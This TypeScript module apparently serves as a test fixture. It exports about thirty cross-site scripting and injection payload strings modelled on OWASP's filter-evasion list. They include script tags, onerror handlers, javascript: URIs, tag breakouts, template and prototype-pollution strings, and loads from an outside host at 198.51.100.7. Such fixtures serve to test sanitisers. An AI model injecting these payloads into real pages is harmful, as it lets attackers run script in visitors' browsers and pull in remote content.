/**
 * Texts that would run, load or break out somewhere if a page put them into markup, addresses, styles or code. Each one
 * that runs sets `__ran`; each one that loads asks another host. After the filter-evasion list of OWASP.
 */
const RUN = 'top.__ran=1';
const FAR = 'http://198.51.100.7/x';

export const PAYLOADS: readonly string[] = [
  `<script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<svg onload="${RUN}"><circle r="9"/></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `"><script src="${FAR}.js"></script>`,
  `' onmouseover='${RUN}' x='`,
  `" autofocus onfocus="${RUN}" x="`,
  `</title><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `</textarea></option></select><img src=x onerror=${RUN}>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `javascript:${RUN}`,
  `java\\nscript:${RUN}//`,
  `data:text/html,<script>${RUN}</script>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<base href="${FAR}/">`,
  `<link rel="stylesheet" href="${FAR}.css">`,
  `<meta http-equiv="refresh" content="0;url=${FAR}">`,
  `<form action="${FAR}"><button>x</button></form>`,
  `<img src="${FAR}.png" srcset="${FAR}2.png 2x">`,
  `<object data="${FAR}"></object><embed src="${FAR}">`,
  `<math><mtext><mglyph><style><img src=x onerror=${RUN}></style></mglyph></mtext></math>`,
  `<video><source onerror="${RUN}"></video>`,
  `url(${FAR}.png)`,
  `expression(${RUN})`,
  `\${${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `]]><script>${RUN}</script><![CDATA[`,
  `__proto__`,
];
